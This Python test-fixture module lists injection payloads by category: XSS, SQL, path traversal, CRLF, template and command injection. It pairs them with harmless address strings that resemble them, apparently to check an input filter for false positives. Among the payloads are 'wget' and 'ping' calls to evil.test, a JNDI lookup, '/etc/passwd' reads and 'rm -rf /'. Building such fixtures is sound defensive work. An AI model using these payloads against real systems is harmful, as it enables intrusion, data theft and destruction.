"""Attacks by category, as they are written, and texts of honest people that look a little like them."""

ATTACKS = {
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        '" onmouseover=alert(1) x="', "javascript:alert(1)",
        "<svg/onload=alert(1)>", "java\tscript:alert(1)", "<iframe src=//evil.test>", "\uff1cscript\uff1e",
        "<a href=data:text/html;base64,PHN>", "'-eval(name)-document.cookie-'", "<scr\u200bipt>", "</script >",
    ],
    "sql_injection": [
        "' OR '1'='1", "1 OR 1=1", "admin'--", "admin' #", "1 UNION SELECT NULL,NULL", "'; DROP TABLE users;--",
        "1 union all select name,pass from users", "1; exec xp_cmdshell 'dir'", "1' AND SLEEP(5)--", "'or''='",
        "1/**/union/**/select/**/1,2", "') or ('a'='a", "1 having 1=1", "select * from users", "' or true--",
        "1 waitfor delay '0:0:5'", "'||'1'='1", "insert into t values (1)", "x' or 2>1",
    ],
    "path_traversal": [
        "../../etc/passwd", "..\\..\\windows\\system32", "....//....//x", "/etc/passwd", "..%c0%af..%c0%afx",
        "file:///etc/hosts", "/static/..", "/proc/self/environ", "/.env",
    ],
    "crlf_injection": ["a\r\nSet-Cookie: x=1", "x\nLocation: http://evil.test", "a\r\n\r\nHTTP/1.1 200 OK"],
    "template_injection": [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.test/a}", "${${lower:j}ndi:ldap://x}",
        "{% import os %}", "x.__class__.__mro__", "{{config}}",
    ],
    "command_injection": [
        "; cat /etc/passwd", "| whoami", "&& wget http://evil.test", "`id`", "$(id)", "; ls -la", "|| ls",
        "() { :;}; /bin/bash", "a|id|b", "& ping -c 1 evil.test", "; rm -rf /", "x; whoami", "cmd.exe /c dir",
    ],
}  # fmt: skip
EACH = [(category, attack) for category, attacks in ATTACKS.items() for attack in attacks]

HONEST = [
    "O'Brien", "12 O'Brien St, O'Fallon, MO 63366", "1 OR 2 Union St", "Select Dr", "Drop Ln", "100 Union Select Ave",
    "100 Union Select Ave, Portland, OR 97201", "12 Kings' #4", "Kings' and 3rd St", "Main St & Ruby Ave",
    "Boise; ID 83702", "Boise | ID", "5 Drop Table Rd", "12 Main St\nAttn: Bob\nAustin, TX 78701", "Coeur d'Alene, ID",
    "91-1001 Kalaniana`ole Hwy, `Aiea, HI 96701", "Suite #4; Echo Ln", "123 N Main St (rear)", "4 & Cat Rd",
    "Insert Ct", "100% Main St", "Table Rock Rd", "1/2 Script Ave", "Data: Main", "St. Mary's & Paul's",
    "'S-Hertogenbosch and 'Main'", "Rock 'n' Roll Blvd", "From Union St or Delete Rd where 5th meets 6th",
    "Executive Dr -- rear entrance", "Tom & Jerry's; Unit #5", "1 Alter Rd, Detroit, MI", "Cañon City, CO",
    "C/O Sys Inc.",
    "Winston - Salem, NC", "50 AND 60 Oak St", "Grant & Update Ave", "AT&T Way", "Null, 5 Cursor Ct",
    "Sleepy Hollow, NY",
]  # fmt: skip
